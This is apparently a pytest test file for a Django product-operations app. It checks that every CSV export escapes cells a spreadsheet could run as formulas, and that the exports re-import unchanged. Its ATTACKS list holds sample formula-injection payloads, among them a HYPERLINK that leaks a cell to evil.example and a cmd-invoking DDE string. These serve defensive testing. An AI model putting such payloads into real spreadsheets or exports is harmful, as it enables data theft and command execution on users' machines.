"""Every CSV export writes cells a spreadsheet cannot run as a formula (finding M4).

A cell that begins with =, +, -, @, a tab or a carriage return is written with a leading
'. The lists below name every export route and command; the discovery tests fail when a
URL pattern or command looks like an export (its name or path says "export", or it ends
in .csv) and is in neither list, so a new export cannot skip the check.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command, get_commands
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from productops.backlog.actions import import_tracker
from productops.imports.csv_cells import FORMULA_STARTS, safe_cell, unescape_cell
from productops.org.actions import import_people_file
from productops.org.models import Discipline, Person
from tests.cast import build_cast

pytestmark = pytest.mark.django_db

# URL names of CSV exports, each tested below.
CSV_ROUTES = {"org:people_export"}
# URL names that say "export" but write no CSV, and what they write instead.
NOT_CSV_ROUTES = {"competencies:model_export": "a competency model as YAML or JSON"}
# Commands that export CSV, each tested below; and those that write something else.
CSV_COMMANDS = {"export_items"}
NOT_CSV_COMMANDS = {
    "export_model": "a competency model as YAML or JSON",
    "export_1on1s": "1:1 series as Markdown",
}

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for bonus")',
    "+SUM(1;2)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _patterns(resolver: URLResolver, prefix: str = "", namespace: str = "") -> Iterator[tuple]:
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = ":".join(part for part in (namespace, entry.namespace or "") if part)
            yield from _patterns(entry, prefix + str(entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            name = f"{namespace}:{entry.name}" if namespace and entry.name else entry.name or ""
            yield name, prefix + str(entry.pattern)


def _looks_like_export(*texts: str) -> bool:
    return any(
        "export" in text.lower() or text.lower().rstrip("$").endswith(".csv") for text in texts
    )


def unsafe_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS)
    ]


def test_every_export_route_is_listed() -> None:
    exports = {
        name or path
        for name, path in _patterns(get_resolver())
        if _looks_like_export(name, path) and not name.startswith("admin:")
    }
    unlisted = exports - CSV_ROUTES - set(NOT_CSV_ROUTES)
    assert not unlisted, (
        f"add these export routes to CSV_ROUTES (and test them) or NOT_CSV_ROUTES: {unlisted}"
    )
    assert CSV_ROUTES | set(NOT_CSV_ROUTES) <= exports  # the lists hold no stale names


def test_every_export_command_is_listed() -> None:
    ours = {
        name
        for name, app in get_commands().items()
        if app.startswith("productops") and _looks_like_export(name)
    }
    unlisted = ours - CSV_COMMANDS - set(NOT_CSV_COMMANDS)
    assert not unlisted, (
        f"add these commands to CSV_COMMANDS (and test them) or NOT_CSV_COMMANDS: {unlisted}"
    )
    assert CSV_COMMANDS | set(NOT_CSV_COMMANDS) <= ours


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_begins_like_a_formula_gets_a_quote_and_reads_back(start: str) -> None:
    value = f"{start}1+1"
    assert safe_cell(value) == f"'{value}"
    assert unescape_cell(safe_cell(value)) == value
    assert safe_cell("Ann O'Neil") == "Ann O'Neil"
    assert unescape_cell("'quoted") == "'quoted"  # only what safe_cell wrote is undone
    assert safe_cell(-3) == -3  # a number is not a formula


def test_people_export_neutralizes_every_formula_and_reimports_unchanged() -> None:
    cast = build_cast()
    rows = ["name,email,title,discipline,level"]
    for index, attack in enumerate(ATTACKS):
        quoted = attack.replace('"', '""')
        rows.append(f'"{quoted}",p{index}@x.io,"{quoted}",design,"{quoted[:20]}"')
    report = import_people_file(StringIO("\n".join(rows) + "\n"), source="attack.csv")
    assert report.written, [str(e) for e in report.errors]
    # The importer strips spaces; a tab or CR at the start can still come from elsewhere.
    for index, start in enumerate(("\t", "\r")):
        Person.objects.create(
            name=f"{start}=1+1", email=f"ws{index}@x.io", discipline=Discipline.DESIGN
        )

    client = Client()
    client.force_login(cast.hana_user)
    response = client.get(reverse("org:people_export"))
    assert response.status_code == 200
    text = response.content.decode()

    assert unsafe_cells(text) == []
    names = [row["name"] for row in csv.DictReader(StringIO(text))]
    for attack in ATTACKS:
        assert f"'{attack}" in names
    assert "'\t=1+1" in names

    # The export re-imports as it was: the quote added on the way out is read back off.
    Person.objects.filter(email__startswith="ws").delete()
    text = client.get(reverse("org:people_export")).content.decode()
    again = import_people_file(StringIO(text))
    assert again.written and again.created == again.updated == 0, [str(e) for e in again.errors]
    assert set(ATTACKS) <= set(Person.objects.values_list("name", flat=True))


def test_export_items_neutralizes_every_formula(tmp_path: Path) -> None:
    lines = ["Issue key,Summary,Status"]
    for index, attack in enumerate(ATTACKS):
        quoted = attack.replace('"', '""')
        lines.append(f'EV-{index},"{quoted}","{quoted[:30]}"')
    export_file = tmp_path / "jira.csv"
    export_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = import_tracker([export_file], format="jira-csv")
    assert report.written, [str(e) for e in report.errors]

    out = StringIO()
    call_command("export_items", "--format", "csv", stdout=out)
    text = out.getvalue()

    assert unsafe_cells(text) == []
    titles = {row["title"] for row in csv.DictReader(StringIO(text))}
    assert {f"'{attack}" for attack in ATTACKS} <= titles

    written = tmp_path / "items.csv"
    call_command("export_items", "--format", "csv", "--output", str(written), stderr=StringIO())
    assert unsafe_cells(written.read_text(encoding="utf-8")) == []
